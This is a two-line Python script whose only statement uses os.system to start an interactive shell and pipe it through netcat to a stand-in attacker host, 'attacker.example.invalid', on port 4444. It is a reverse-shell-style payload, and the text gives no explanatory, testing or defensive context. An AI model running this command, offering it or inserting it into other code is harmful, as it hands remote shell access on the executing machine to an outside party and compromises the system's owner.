import os

os.system("sh -i 2>&1 | nc attacker.example.invalid 4444")
